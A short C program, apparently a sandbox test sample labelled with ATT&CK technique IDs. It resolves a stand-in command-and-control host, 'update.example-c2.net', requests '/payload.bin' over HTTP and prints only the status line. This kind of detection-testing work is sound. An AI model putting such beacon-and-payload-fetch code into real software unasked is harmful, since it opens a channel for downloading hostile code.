/* dnshttp.c - sandbox sample: resolves a name and sends an HTTP GET (T1071.001/.004).
 * Prints the resolved address and the status line. SPDX-License-Identifier: MIT */
#include <arpa/inet.h>
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void)
{
	struct addrinfo hints, *res;
	char ip[64], buf[512];
	const char *req = "GET /payload.bin?id=42 HTTP/1.1\r\nHost: update.example-c2.net\r\n"
	    "User-Agent: pn-sample/1.0\r\nAccept: */*\r\n\r\n";
	memset(&hints, 0, sizeof(hints));
	hints.ai_family = AF_INET;
	hints.ai_socktype = SOCK_STREAM;
	if (getaddrinfo("update.example-c2.net", "80", &hints, &res) != 0) {
		printf("resolve failed\n");
		return 1;
	}
	inet_ntop(AF_INET, &((struct sockaddr_in *)res->ai_addr)->sin_addr, ip, sizeof(ip));
	printf("resolved %s\n", ip);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(s, res->ai_addr, res->ai_addrlen) != 0) {
		printf("connect failed\n");
		return 2;
	}
	write(s, req, strlen(req));
	ssize_t n = read(s, buf, sizeof(buf) - 1);
	if (n <= 0)
		return 3;
	buf[n] = 0;
	buf[strcspn(buf, "\r\n")] = 0;
	printf("%s\n", buf);
	return 0;
}
